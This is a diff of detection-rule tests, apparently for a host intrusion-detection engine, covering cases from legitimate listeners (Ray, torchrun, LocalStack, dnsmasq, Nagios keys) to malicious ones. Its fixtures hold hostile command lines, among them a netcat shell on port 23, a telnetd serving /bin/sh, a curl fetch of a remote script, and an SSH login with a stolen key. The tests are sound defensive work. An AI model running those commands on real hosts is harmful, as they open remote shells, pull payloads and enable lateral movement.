@@ -148,3 +148,53 @@ test("check_by_ssh's plugin runs and salt-ssh's -o IdentityFile connections are 
   t.same(findings("lateral-admin-connection", host(salt)), []);
   t.ok(findings("lateral-admin-connection", host(ssh(33, "ssh -o IdentityFile=/root/.ssh/stolen root@10.30.5.21", "0"))).length > 0, "another key");
 });
+
+test("the twelfth blind corpus's documented work: Ray, torchrun and LocalStack ports, BusyBox telnetd, strongSwan and dnsmasq packet sockets, RabbitMQ's disk monitor", async (t) => {
+  const listener = (pid: number, port: number, name: string, path: string, cmdline: string) =>
+    host({ processes: [proc(pid, name, path, cmdline, { uid: "1000" })], listening_ports: [{ pid: String(pid), port: String(port), address: "0.0.0.0", protocol: "6" }] });
+  const venv = "/home/mlops/.venv";
+  t.same(findings("unexpected-listener", listener(40, 6379, "gcs_server", `${venv}/lib/python3.10/site-packages/ray/core/src/ray/gcs/gcs_server`, `${venv}/lib/python3.10/site-packages/ray/core/src/ray/gcs/gcs_server --gcs_server_port=6379`)), []);
+  t.same(findings("unexpected-listener", listener(41, 8265, "python", `${venv}/bin/python`, `${venv}/bin/python -u ${venv}/lib/python3.10/site-packages/ray/dashboard/dashboard.py --port=8265`)), []);
+  t.same(findings("unexpected-listener", listener(42, 29400, "pt_main_thread", `${venv}/bin/python`, `${venv}/bin/python ${venv}/bin/torchrun --rdzv_backend=c10d --rdzv_endpoint=10.60.0.10:29400 train.py`)), []);
+  t.same(findings("unexpected-listener", listener(43, 4566, "python", "/opt/code/localstack/.venv/bin/python", "/opt/code/localstack/.venv/bin/python -m localstack.runtime.main")), []);
+  t.ok(findings("unexpected-listener", listener(44, 8265, "python", "/usr/bin/python3", "python3 -m http.server 8265")).length > 0, "another Python on Ray's port");
+  t.same(findings("unexpected-listener", listener(45, 23, "telnetd", "/bin/busybox", "/usr/sbin/telnetd -F -l /bin/login")), [], "BusyBox telnetd with its login program");
+  t.ok(findings("unexpected-listener", listener(46, 23, "telnetd", "/bin/busybox", "telnetd -l /bin/sh -p 23")).length > 0, "a telnetd that hands out shells");
+  t.ok(findings("unexpected-listener", listener(47, 23, "busybox", "/bin/busybox", "busybox nc -lp 23 -e /bin/sh")).length > 0, "BusyBox netcat on the telnet port");
+
+  const packet = (name: string, path: string) => host({ processes: [proc(50, name, path, path)], process_open_sockets: [{ pid: "50", fd: "8", socket: "1", family: "17", protocol: "2048", local_address: "", remote_address: "", local_port: "0", remote_port: "0", state: "NONE" }] });
+  t.same(findings("packet-socket-backdoor", packet("charon-systemd", "/usr/sbin/charon-systemd")), []);
+  t.same(findings("packet-socket-backdoor", packet("dnsmasq", "/usr/sbin/dnsmasq")), []);
+  t.ok(findings("packet-socket-backdoor", packet("dnsmasq", "/var/tmp/dnsmasq")).length > 0, "the name in another place");
+
+  const rabbit = (cmd: string, child?: string) => host({
+    processes: [
+      proc(540, "beam.smp", "/usr/lib/erlang/erts-13.2.2.5/bin/beam.smp", "/usr/lib/erlang/erts-13.2.2.5/bin/beam.smp -W w -- -root /usr/lib/erlang -progname erl -- -home /var/lib/rabbitmq -- -boot start_sasl -s rabbit boot", { uid: "114" }),
+      proc(625, "sh", "/usr/bin/dash", cmd, { uid: "114", parent: "540" }),
+      ...(child ? [proc(626, "curl", "/usr/bin/curl", child, { uid: "114", parent: "625" })] : []),
+    ],
+  });
+  t.same(findings("service-spawned-shell", rabbit("/bin/sh -s rabbit_disk_monitor")), []);
+  t.ok(findings("service-spawned-shell", rabbit("/bin/sh -s rabbit_disk_monitor", "curl -s http://203.0.113.9/k.sh")).length > 0, "a download through the port's shell");
+});
+
+test("vulnerable-package: a distribution build that carries the fix on an older upstream version is fixed", async (t) => {
+  const ssh = (version: string) => findings("vulnerable-package", host({ deb_packages: [{ name: "openssh-server", version }] }));
+  t.same(ssh("1:9.6p1-3ubuntu13.5"), [], "Ubuntu 24.04 after USN-6859-1");
+  t.ok(ssh("1:9.6p1-3ubuntu13").length > 0, "Ubuntu 24.04 before it");
+  t.ok(ssh("1:9.7p1-4").length > 0, "sid before 1:9.7p1-7");
+  t.same(ssh("1:9.7p1-7"), []);
+  t.same(ssh("1:9.2p1-2+deb12u3"), [], "bookworm's fixed build");
+});
+
+test("a kernel module named for its package with a netfilter prefix, and check_by_ssh's account with forced-command keys", async (t) => {
+  const rtp = host({ kernel_modules: [{ name: "xt_RTPENGINE", size: "61440", used_by: "1", status: "Live" }], rpm_packages: [{ name: "rtpengine-kernel-dkms", version: "mr12.4.1.4" }] });
+  t.same(findings("unexpected-kernel-module", rtp), []);
+  const nagios = host({
+    users: [{ uid: "1002", username: "nagios", shell: "/bin/bash", directory: "/home/nagios" }],
+    authorized_keys: [{ uid: "1002", algorithm: "ssh-ed25519", key: "AAAAC3NzaC1lZDI1NTE5AAAAIW5F7BNjpaK1Wmfh87VgrWSzviKu3ZlOV0z7ffB", options: 'from="10.40.0.11",command="/usr/local/lib/nagios/ssh-check-wrapper.sh",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty', comment: "nagios@mon-icinga-01" }],
+  });
+  t.same(findings("new-interactive-account", nagios), []);
+  const open = host({ users: [{ uid: "1002", username: "nagios", shell: "/bin/bash", directory: "/home/nagios" }], authorized_keys: [{ uid: "1002", algorithm: "ssh-ed25519", key: "AAAAC3NzaC1lZDI1NTE5AAAAIW5F7BNjpaK1Wmfh87VgrWSzviKu3ZlOV0z7ffB", options: "", comment: "x@y" }] });
+  t.ok(findings("new-interactive-account", open).length > 0, "a key with no forced command");
+});
